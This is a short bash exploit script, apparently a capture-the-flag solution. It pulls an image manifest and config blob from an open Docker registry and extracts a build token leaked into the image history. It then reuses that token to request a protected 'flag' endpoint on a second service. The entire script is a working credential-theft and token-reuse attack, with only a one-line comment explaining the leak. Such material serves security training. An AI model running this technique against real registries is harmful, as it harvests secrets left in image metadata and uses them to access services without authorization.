#!/bin/bash
# Whoever may pull an image may read its history, and there stands the token as a build argument.
set -euo pipefail
repository=http://dockerhost:5000/v2/shop/worker
config=$(curl -s --max-time 3 -H 'Accept: application/vnd.docker.distribution.manifest.v2+json' $repository/manifests/1.0 | jq --raw-output .config.digest)
token=$(curl -s --max-time 3 "$repository/blobs/$config" | grep -o 'TOKEN=bld_[0-9a-f]*' | head -n 1)
curl -s --max-time 3 -H "Private-Token: ${token#TOKEN=}" http://dockerhost:9000/cgi-bin/flag
